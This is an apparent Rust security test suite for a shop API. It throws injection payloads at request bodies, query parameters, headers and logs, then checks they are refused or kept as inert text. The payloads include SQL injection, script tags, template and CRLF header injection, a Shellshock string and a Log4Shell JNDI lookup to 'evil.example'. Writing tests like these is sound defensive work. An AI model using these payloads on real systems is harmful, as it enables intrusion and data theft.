//! Attacks with text that means something to somebody further on: a database, a search engine, a browser, a log, a mail, a header.

use std::{
    cell::RefCell,
    fmt::{Debug, Write},
};

use actix_web::http::Method;
use novashop_db::sql::Sql;
use novashop_testing::{PASSWORD, TestApp, contract::contract, shopping::order};
use proptest::{prelude::*, strategy::ValueTree, test_runner::TestRunner};
use serde_json::{Value, json};
use tracing::{
    Event, Level, Metadata, Subscriber,
    field::{Field, Visit},
    span,
};

use crate::bad_input::Ready;

/// For SQL, for templates and search engines, for browsers, for spreadsheets, terminals and headers, for whoever counts characters.
const PAYLOADS: [&str; 6] = [
    "' or '1'='1' -- \"; drop table users; $1 %s",
    "%_\\ {{7*7}} ${7*7} *:* NEAR(a b, 1) \" OR * AND (",
    "<script>alert(1)</script>&amp;\"><img src=x onerror=alert(1)>",
    "=1+1\t\u{1b}[31m\r\nSet-Cookie: evil=1",
    "\u{202e}\u{feff}\u{1F355}\u{FFFD}\u{10FFFF}a\u{0301}",
    "a' & b | !c <-> d:* \\",
];

/// As it stands in a query or a path.
fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        write!(out, "%{byte:02X}").unwrap();
        out
    })
}

fn texts(value: &Value, at: &str, found: &mut Vec<String>) {
    match value {
        Value::Object(fields) => fields.iter().for_each(|(name, value)| texts(value, &format!("{at}/{name}"), found)),
        Value::Array(values) => values.iter().enumerate().for_each(|(index, value)| texts(value, &format!("{at}/{index}"), found)),
        Value::String(_) => found.push(at.to_owned()),
        _ => {}
    }
}

#[actix_web::test]
async fn a_text_is_kept_as_it_is_or_refused_wherever_a_text_stands() {
    let app = TestApp::new().await;
    let mut tried = 0;
    for operation in contract().operations.iter().filter(|operation| operation.json_body().is_some()) {
        let mut ready = Ready::new(&app, operation).await;
        let mut places = Vec::new();
        texts(&ready.call.body, "", &mut places);
        for (place, payload) in places.iter().flat_map(|place| PAYLOADS.iter().map(move |payload| (place, payload))) {
            let mut body = ready.call.body.clone();
            *body.pointer_mut(place).unwrap() = json!(payload);
            let answer = ready.request().json(body).await;
            let what = format!("{} with {place} = {payload:?}: {}", operation.name(), answer.text());
            assert!([200, 201, 202, 204, 401, 404, 409, 422].contains(&answer.status), "{what}");
            assert!(answer.every_header("set-cookie").all(|cookie| !cookie.contains("evil")), "{what}");
            // The text of an answer to a review comes back inside the review.
            let echoed = answer.json.pointer(&format!("/answer{place}")).or_else(|| answer.json.pointer(place));
            if let Some(echoed) = echoed.filter(|_| answer.status < 300) {
                assert_eq!(echoed.as_str().map(str::trim), Some(payload.trim()), "{what}");
            }
            // What succeeded may not succeed again.
            if answer.status < 300 {
                ready = Ready::new(&app, operation).await;
            }
            tried += 1;
        }
    }
    assert!(tried > 150, "only {tried} texts were tried");
    app.run_outbox().await;
}

#[actix_web::test]
async fn no_parameter_finds_more_than_is_found_without_it() {
    let app = TestApp::new().await;
    for name in ["Mug", "Cup", "Stone mortar"] {
        app.product(name).create().await;
    }
    let (admin, maya) = (app.admin().await, app.customer().await);
    maya.place_order().await;
    let mut tried = 0;
    for operation in contract().operations.iter().filter(|operation| operation.method == "GET") {
        let parameters = operation.spec["parameters"].as_array().into_iter().flatten().filter(|one| one["in"] == "query");
        let parameters: Vec<&str> = parameters.filter_map(|one| one["name"].as_str()).filter(|name| *name != "limit").collect();
        if parameters.is_empty() {
            continue;
        }
        let ready = Ready::new(&app, operation).await;
        let path = ready.row.path(&ready.call);
        let bare = path.split('?').next().unwrap();
        let all = ready.who.request(Method::GET, path.as_str()).await.assert_status(200);
        let all = all.json["items"].as_array().map(Vec::len);
        for (name, payload) in parameters.iter().flat_map(|name| PAYLOADS.iter().chain(&["%", "_", "*", "'"]).map(move |payload| (name, payload))) {
            for query in [format!("{name}={}", encoded(payload)), format!("{}=1", encoded(&format!("{name}{payload}")))] {
                let answer = ready.who.request(Method::GET, format!("{bare}?{query}")).await;
                assert!([200, 400].contains(&answer.status), "{bare}?{query}: {}", answer.text());
                let found = answer.json["items"].as_array().map(Vec::len);
                assert!(found.is_none() || found <= all, "{bare}?{query} finds {found:?} of {all:?}");
                tried += 1;
            }
        }
    }
    assert!(tried > 300, "only {tried} queries were tried");
    // A sign of a query language means itself: nothing here is called so.
    let signs = ["%", "_", "\\", "%%", "*", "\"", "' --"];
    let with_words = ["%a%", "m_ya", "maya%", "_aya", "' or 1=1 --", "maya' or 'a'='a", "mugs NOT cups", "maya OR noor"];
    for (path, sign) in ["/users", "/admin/orders", "/products"].iter().flat_map(|path| signs.iter().map(move |sign| (path, sign))) {
        let found = admin.get(format!("{path}?q={}", encoded(sign))).await.assert_status(200);
        assert_eq!(found.items().len(), 0, "{path}?q={sign} finds {}", found.text());
    }
    for (path, text) in ["/users", "/admin/orders"].iter().flat_map(|path| with_words.iter().map(move |text| (path, text))) {
        let found = admin.get(format!("{path}?q={}", encoded(text))).await.assert_status(200);
        assert_eq!(found.items().len(), 0, "{path}?q={text} finds {}", found.text());
    }
    assert!(!admin.get("/users?q=maya").await.assert_status(200).items().is_empty(), "that name alone is found");
}

#[actix_web::test]
async fn whatever_is_typed_into_a_search_is_a_search() {
    let app = TestApp::new().await;
    app.product("Stoneware mug ½ Ⓐ ǅ ß İ").description("a & b | c:* 'd' \"e\" ¼ ²").create().await;
    let nobody = app.anonymous();
    let signs = prop::collection::vec(
        prop_oneof![
            Just("&"),
            Just("|"),
            Just("!"),
            Just(":*"),
            Just("("),
            Just(")"),
            Just("<->"),
            Just("'"),
            Just("\""),
            Just("\\"),
            Just("*"),
            Just("^"),
            Just("-"),
            Just("+"),
            Just("NEAR("),
            Just("AND"),
            Just("OR"),
            Just("NOT"),
            Just("title:"),
            Just(" "),
            Just("mug"),
            Just("mugs"),
            Just("½"),
            Just("Ⓐ"),
            Just("İ"),
            Just("ﬁ"),
            Just("\u{345}"),
            Just("a\u{200d}b"),
            Just("茶"),
            Just("\u{1F355}"),
            Just("\u{e000}"),
            Just("\u{ffff}"),
        ],
        0..12,
    )
    .prop_map(|words| words.concat());
    let typed = prop_oneof![signs, "\\PC{0,40}", "[a-z&|!:*()'\"\\\\<>~{}^ -]{0,40}", "\\p{No}{1,5}", "\\p{So}{1,5}", "\\p{M}{1,5}", "\\p{Lm}{1,9}"];
    let mut runner = TestRunner::deterministic();
    for _ in 0..400 {
        let text = typed.new_tree(&mut runner).unwrap().current();
        let q = encoded(&text);
        nobody.get(format!("/products?q={q}&facets=true&include_total=true")).await.assert_status(200);
        let suggested = nobody.get(format!("/search/suggest?q={q}")).await;
        assert!([200, 400].contains(&suggested.status), "{text:?}: {}", suggested.text());
    }
    // The longest that is taken, in one word and of the widest letters.
    for word in ["a".repeat(200), "ß".repeat(200), "\u{1D5D4}".repeat(200), "İ".repeat(200)] {
        nobody.get(format!("/products?q={}", encoded(&word))).await.assert_status(200);
    }
}

#[actix_web::test]
async fn no_header_makes_the_shop_stumble_or_comes_back_in_one() {
    let app = TestApp::new().await;
    let (guest, maya) = (app.anonymous(), app.customer().await);
    let placed = guest.place_order().await;
    let path = format!("/orders/{}", placed.text_at("/id"));
    let long = "a".repeat(20_000);
    for name in [
        "x-cart-token",
        "x-order-token",
        "x-request-id",
        "idempotency-key",
        "if-match",
        "if-none-match",
        "user-agent",
        "accept",
        "accept-encoding",
        "accept-language",
        "range",
        "origin",
        "referer",
        "cookie",
        "content-type",
        "traceparent",
        "tracestate",
        "host",
        "x-forwarded-for",
        "forwarded",
        "x-real-ip",
        "if-modified-since",
        "te",
        "prefer",
        "sec-fetch-site",
        "content-encoding",
    ] {
        for value in [
            "' or 1=1 --",
            "${jndi:ldap://evil.example/a}",
            "() { :; }; echo evil",
            "<script>evil</script>",
            "%0d%0aevil:1",
            "é\u{1F355}",
            "evil\t",
            &long,
        ] {
            for request in
                [guest.get("/cart"), guest.get(&path), maya.get("/products"), maya.post("/cart/items", json!({})), maya.post("/orders", order())]
            {
                let answer = request.header(name, value).await;
                assert!((200..500).contains(&answer.status), "{name}: {value}: {}", answer.text());
                assert!(answer.headers.iter().all(|(_, text)| !text.contains("evil") && !text.contains("a".repeat(99).as_str())), "{name}: {value}");
            }
        }
    }
}

#[actix_web::test]
async fn what_stands_in_a_link_or_a_location_stays_in_it() {
    let app = TestApp::new().await;
    for number in 0..3 {
        app.product(&format!("Mug set cookie evil {number}")).create().await;
    }
    let typed = encoded("mug\r\nSet-Cookie: evil>; rel=\"prev\", <https://evil.example");
    let page = app.anonymous().get(format!("/products?limit=1&q={}", typed.replace("example", ""))).await.assert_status(200);
    assert_eq!(page.items().len(), 0, "the address is a word of the search too");
    let typed = encoded("mug\r\nSet-Cookie: evil>; \"<\t");
    let page = app.anonymous().get(format!("/products?limit=1&q={typed}")).await.assert_status(200);
    let link = page.need_header("link");
    assert!(link.starts_with("</api/v1/products?limit=1&q=mug%0D%0ASet-Cookie%3A+evil%3E%3B+%22%3C%09&cursor="), "{link}");
    assert_eq!((link.matches(['<', '>']).count(), page.header("set-cookie")), (2, None));
    let next = link.split(['<', '>']).nth(1).unwrap();
    assert_eq!(app.anonymous().request(Method::GET, next).await.assert_status(200).items().len(), 1, "and still leads to the next page");
}

#[actix_web::test]
async fn a_script_that_somebody_leaves_behind_is_only_ever_text() {
    let app = TestApp::new().await;
    let (staff, maya) = (app.staff().await, app.customer().await);
    let script = "<script>alert(1)</script>";
    let body = json!({"name": script, "description": script, "price": {"amount": 1, "currency": "EUR"}, "stock": 1, "attributes": {"A": script}});
    let made = staff.post("/products", body).await.assert_status(201);
    assert_eq!(made.json["slug"], "script-alert-1-script");
    let id = made.text_at("/id");
    maya.post(format!("/products/{id}/reviews"), json!({"rating": 1, "title": script, "text": script})).await.assert_status(201);
    staff.post("/categories", json!({"name": script})).await.assert_status(201);
    staff.patch(format!("/products/{id}"), json!({"status": "published"})).await.assert_status(200);
    for path in [
        format!("/products/{id}"),
        "/products?q=script".into(),
        format!("/products/{id}/reviews"),
        "/categories".into(),
        "/search/suggest?q=script".into(),
    ] {
        // As a browser would ask that was sent to this address.
        let answer = app.anonymous().get(&path).header("accept", "text/html,*/*").await.assert_status(200);
        assert!(answer.text().contains(script), "{path}: it is kept as it was written");
        assert_eq!(answer.need_header("content-type"), "application/json", "{path}");
        assert_eq!(answer.need_header("x-content-type-options"), "nosniff", "{path}");
        assert!(answer.need_header("content-security-policy").starts_with("default-src 'none'"), "{path}");
    }
    for path in ["/problems/<script>alert(1)</script>", "/documentation/<script>", "/api/v1/<script>", "/api/v1/products/<script>", "/media/<script>"]
    {
        let path = path.replace('<', "%3C").replace('>', "%3E");
        let answer = app.anonymous().request(Method::GET, path.as_str()).await.assert_status(404);
        assert!(!answer.need_header("content-type").contains("html"), "{path}");
    }
}

thread_local! {
    /// What was logged at `info` and above by the test of this thread, as one text.
    static LOGGED: RefCell<String> = const { RefCell::new(String::new()) };
}

/// Listens for the whole process: a listener of one thread's own misses what another thread was the first to say.
struct Log;

impl Visit for Log {
    fn record_debug(&mut self, field: &Field, value: &dyn Debug) {
        LOGGED.with_borrow_mut(|logged| write!(logged, " {field}={value:?}")).unwrap();
    }

    fn record_str(&mut self, field: &Field, value: &str) {
        LOGGED.with_borrow_mut(|logged| write!(logged, " {field}={value}")).unwrap();
    }
}

impl Subscriber for Log {
    fn enabled(&self, metadata: &Metadata<'_>) -> bool {
        *metadata.level() <= Level::INFO
    }

    fn new_span(&self, attributes: &span::Attributes<'_>) -> span::Id {
        attributes.record(&mut Self);
        span::Id::from_u64(1)
    }

    fn record(&self, _: &span::Id, values: &span::Record<'_>) {
        values.record(&mut Self);
    }

    fn event(&self, event: &Event<'_>) {
        event.record(&mut Self);
        LOGGED.with_borrow_mut(|logged| logged.push('|'));
    }

    fn record_follows_from(&self, _: &span::Id, _: &span::Id) {}
    fn enter(&self, _: &span::Id) {}
    fn exit(&self, _: &span::Id) {}
}

#[actix_web::test]
async fn nothing_that_somebody_sends_is_written_to_the_log() {
    let app = TestApp::new().await;
    let maya = app.customer().await;
    tracing::subscriber::set_global_default(Log).unwrap();
    let evil = "evil-mark%0Aevil-mark%1B%5B31m";
    let visitor = app.anonymous();
    let from = |request: novashop_testing::actors::Request| request.header("user-agent", "evil-mark\t").header("x-request-id", "evil-mark evil");
    from(visitor.request(Method::GET, format!("/evil-mark/{evil}"))).await.assert_status(404);
    from(visitor.get(format!("/products/{evil}"))).await.assert_status(404);
    from(visitor.get(format!("/products?q={evil}"))).await.assert_status(200);
    from(visitor.get("/users/me").header("authorization", "Bearer evil-mark")).await.assert_status(401);
    from(visitor.post("/auth/login", json!({"login": "evil-mark\n", "password": "evil-mark"}))).await.assert_status(401);
    let register = json!({"username": "evil-mark", "email": "evil-mark@example.com", "password": PASSWORD, "first_name": "evil-mark\n"});
    from(visitor.post("/auth/register", register)).await.assert_status(201);
    from(visitor.post("/auth/password/forgot", json!({"email": "evil-mark@example.com"}))).await.assert_status(202);
    from(maya.patch("/users/me", json!({"city": "evil-mark\nevil"}))).await.assert_status(200);
    from(maya.post("/orders", json!({"evil-mark": "evil-mark"}))).await.assert_status(422);
    app.run_outbox().await;
    // Also where the shop itself is at fault and says why.
    Sql::new("alter table users rename to gone", []).execute(app.ctx().db.writer()).await.unwrap();
    from(visitor.post("/auth/login", json!({"login": "evil-mark", "password": "evil-mark"}))).await.assert_status(500);
    let logged = LOGGED.take();
    assert!(logged.contains("request failed") && logged.matches("http.status=").count() >= 9, "{logged}");
    for never in ["evil", "\u{1b}", "\n", PASSWORD, &maya.account().access_token, &maya.account().email] {
        assert!(!logged.contains(never), "{never:?} is in the log:\n{logged}");
    }
}
